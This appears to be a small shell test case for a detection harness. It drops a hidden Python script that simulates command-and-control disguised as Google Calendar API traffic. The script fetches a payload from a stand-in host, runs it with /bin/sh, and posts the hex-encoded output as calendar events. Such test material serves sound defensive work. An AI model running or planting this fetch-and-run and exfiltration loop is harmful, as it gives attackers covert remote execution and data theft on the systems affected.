#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.cal.py <<'END'
import json, subprocess, time, urllib.request
for day in ("2023-05-30", "2023-07-30", "2023-07-31"):
    order = urllib.request.urlopen("http://calendar.googleapis.example.com/payload.sh?timeMin=" + day).read() if day < "2023-06" else urllib.request.urlopen("http://calendar.googleapis.example.com/payload.sh").read()
    said = subprocess.run(["/bin/sh", "-c", order.decode() if order.startswith(b"#!") else "id"], capture_output=True).stdout
    r = urllib.request.Request("http://calendar.googleapis.example.com/calendar/v3/calendars/x/events", json.dumps({"start": day, "description": said.hex()}).encode(), {"Authorization": "Bearer bait"})
    urllib.request.urlopen(r); time.sleep(0.4)
END
python3 /tmp/.cal.py
test -e /tmp/reached
took_place
